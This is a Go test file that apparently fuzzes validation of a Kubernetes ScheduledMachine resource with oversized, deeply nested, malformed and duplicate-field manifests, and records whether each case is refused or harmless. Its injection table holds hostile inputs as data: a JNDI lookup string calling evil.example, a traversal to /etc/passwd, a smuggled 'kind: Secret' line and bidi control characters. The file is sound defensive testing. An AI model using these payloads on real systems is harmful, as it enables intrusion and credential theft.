package hostile_test

import (
	"fmt"
	"strings"
)

// sizeAttacks are about how much there is of it.
var sizeAttacks = map[string]attack{
	"a spec of a mebibyte": {
		grow: put(strings.Repeat("a", 1<<20), "spec", "infrastructureSpec", "spec", "address"), harmless: "the API server takes it; a ResourceQuota bounds how many there are",
	},
	"a spec of two mebibytes":      {grow: put(strings.Repeat("a", 2<<20), "spec", "infrastructureSpec", "spec", "address"), refused: "larger than max"},
	"a manifest of four mebibytes": {grow: put(strings.Repeat("a", 4<<20), "spec", "infrastructureSpec", "spec", "address"), refused: "too large"},
	"a spec of 300,000 empty lists": {
		grow: put(several(300000, []any{}), "spec", "infrastructureSpec", "spec", "bomb"), harmless: "the provider's schema drops it",
	},
	"a spec of 256 fields that nobody knows": {grow: put(numbered(256, "x"), "spec", "infrastructureSpec", "spec"), harmless: "the provider's schema drops them"},
	"a spec that is 1,000 deep":              {grow: put(map[string]any{"a": nested(1000)}, "spec", "infrastructureSpec", "spec"), harmless: "the provider's schema drops it"},
	"a spec that is 9,000 deep":              {grow: put(map[string]any{"a": nested(9000)}, "spec", "infrastructureSpec", "spec"), harmless: "the provider's schema drops it"},
	"a spec that is 11,000 deep":             {raw: deep(11000), refused: "exceeded max depth"},
	"a spec that is a million deep":          {raw: deep(1000000), refused: "exceeded max depth"},
	"a number of a million digits":           {raw: replaced(`"clusterName"`, `"priority":`+strings.Repeat("9", 1000000)+`,"clusterName"`), refused: "cannot unmarshal number"},
	"a field whose name is a megabyte":       {grow: put("x", "spec", "infrastructureSpec", "spec", strings.Repeat("k", 1<<20)), harmless: "the provider's schema drops it"},
}

// deep puts so many lists into each other.
func deep(levels int) func(string) string {
	return replaced(`"address":"192.0.2.7"`, `"address":`+strings.Repeat("[", levels)+strings.Repeat("]", levels))
}

// shapeAttacks are about what is read as an object.
var shapeAttacks = map[string]attack{
	"a field twice": {
		raw: replaced(`"clusterName":"trading"`, `"clusterName":"trading","clusterName":"trading","killSwitch":false,"killSwitch":true`), harmless: "the last one counts, for the API server and the manager alike; kubectl refuses it",
		stored: func(object map[string]any) bool { return object["spec"].(map[string]any)["killSwitch"] == true },
	},
	"a spec twice":                    {raw: replaced(`"spec":{`, `"spec":{"clusterName":"../prod"},"spec":{`), harmless: "the last one counts", stored: clusterIs("trading")},
	"a kind that is another":          {raw: replaced(`"kind":"ScheduledMachine"`, `"kind":"Secret"`), refused: "kind"},
	"a version that is another":       {raw: replaced(`"apiVersion":"5spot.finos.org/v1alpha1"`, `"apiVersion":"5spot.finos.org/v9"`), refused: "API version"},
	"a manifest that is a list":       {raw: func(document string) string { return "[" + document + "]" }, refused: "json"},
	"a manifest that is null":         {raw: func(string) string { return "null" }, refused: "Kind"},
	"a manifest that is a number":     {raw: func(string) string { return "7" }, refused: "json"},
	"a manifest that ends in between": {raw: func(document string) string { return document[:len(document)/2] }, refused: "JSON"},
	"two manifests in one":            {raw: func(document string) string { return document + document }, refused: "after top-level value"},
	"bytes that are no text":          {raw: replaced("192.0.2.7", "\xff\xfe\xfd"), harmless: "they are replaced by the sign for that"},
	"half a character":                {raw: replaced("192.0.2.7", `\ud800`), harmless: "it is replaced by the sign for that"},
	"a comment":                       {raw: replaced(`"spec"`, `/* */"spec"`), refused: "invalid character"},
	"an infinite number":              {raw: replaced(`"clusterName"`, `"priority":Infinity,"clusterName"`), refused: "invalid character"},
	"a spec that is null":             {raw: replaced(`"spec":{`, `"spec":null,"x":{`), refused: "spec"},
	"a whole spec that is a text":     {grow: put("x", "spec"), refused: "spec"},
	"no spec at all":                  {raw: replaced(`"spec":{`, `"Spec":{`), refused: "spec"},
	"metadata that are a list":        {grow: put([]any{}, "metadata"), refused: "metadata"},
	"a Cluster that is a list":        {grow: put([]any{"trading"}, "spec", "clusterName"), refused: "spec.clusterName"},
	"a Cluster that is an object":     {grow: put(map[string]any{"$ne": nil}, "spec", "clusterName"), refused: "spec.clusterName"},
	"a Cluster that is true":          {change: `{spec: {clusterName: true}}`, refused: "spec.clusterName"},
	"a Cluster that is nothing":       {change: `{spec: {clusterName: null}}`, refused: "spec.clusterName"},
	"a field of the original that 5-Spot does not have": {
		change: `{spec: {bootstrapSpec: {namespace: kube-system}}}`, harmless: "the API server drops it",
	},
}

func clusterIs(name string) func(map[string]any) bool {
	return func(object map[string]any) bool { return object["spec"].(map[string]any)["clusterName"] == name }
}

// injectionAttacks put what means something to somebody into every text that has a form.
func injectionAttacks() map[string]attack {
	all := map[string]attack{}
	for what, payload := range map[string]string{
		"an expression":        `x' || true || 'y`,
		"a template":           `{{ .Secret }}${jndi:ldap://evil.example/a}`,
		"a path":               `../../../../etc/passwd`,
		"a line feed":          "x\nkind: Secret",
		"control characters":   controls,
		"a right-to-left text": "\u202enimda\u2066",
	} {
		for field, path := range map[string][]string{
			"spec.clusterName":                   {"spec", "clusterName"},
			"spec.schedule.timezone":             {"spec", "schedule", "timezone"},
			"spec.schedule.daysOfWeek":           {"spec", "schedule", "daysOfWeek"},
			"spec.schedule.hoursOfDay":           {"spec", "schedule", "hoursOfDay"},
			"spec.schedule.leadTime":             {"spec", "schedule", "leadTime"},
			"spec.schedule.calendarRef.name":     {"spec", "schedule", "calendarRef", "name"},
			"spec.bootstrapSpec.apiVersion":      {"spec", "bootstrapSpec", "apiVersion"},
			"spec.bootstrapSpec.kind":            {"spec", "bootstrapSpec", "kind"},
			"spec.bootstrapSpec.secretRef.name":  {"spec", "bootstrapSpec", "secretRef", "name"},
			"spec.gracefulShutdownTimeout":       {"spec", "gracefulShutdownTimeout"},
			"spec.nodeDrainTimeout":              {"spec", "nodeDrainTimeout"},
			"spec.machineTemplate.labels[team]":  {"spec", "machineTemplate", "labels", "team"},
			"spec.machineTemplate.annotations[]": {"spec", "machineTemplate", "annotations", payload},
		} {
			var value any = payload
			if strings.HasSuffix(path[len(path)-1], "OfWeek") || strings.HasSuffix(path[len(path)-1], "OfDay") {
				value = []any{payload}
			}
			refused, _, _ := strings.Cut(field, "[")
			all[fmt.Sprintf("%s in %s", what, field)] = attack{grow: put(value, path...), refused: refused}
		}
	}
	return all
}
